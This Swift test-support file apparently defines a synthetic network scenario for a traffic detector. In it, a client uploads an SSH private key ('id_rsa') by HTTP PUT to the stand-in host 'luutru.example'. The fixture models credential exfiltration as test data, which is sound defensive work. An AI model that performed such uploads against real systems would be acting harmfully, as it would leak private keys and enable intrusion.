import TestSupport

extension Scenario {
    /// What should have stayed inside.
    static var exfiltration: [Scenario] { [privateKey] }

    private static var privateKey: Scenario {
        var talk = Conversation(client: "198.51.100.21", 45001, server: "203.0.113.110", 80)
        talk.handshake()
        talk.client(
            sends: Text.request("PUT", "/thu-muc/id_rsa", host: "luutru.example", body: Payload.privateKey),
            segment: 500)
        talk.server(sends: Text.response("ok", type: "text/plain"))
        talk.close()
        return Scenario("exfiltration/private-key", talk.frames)
    }
}
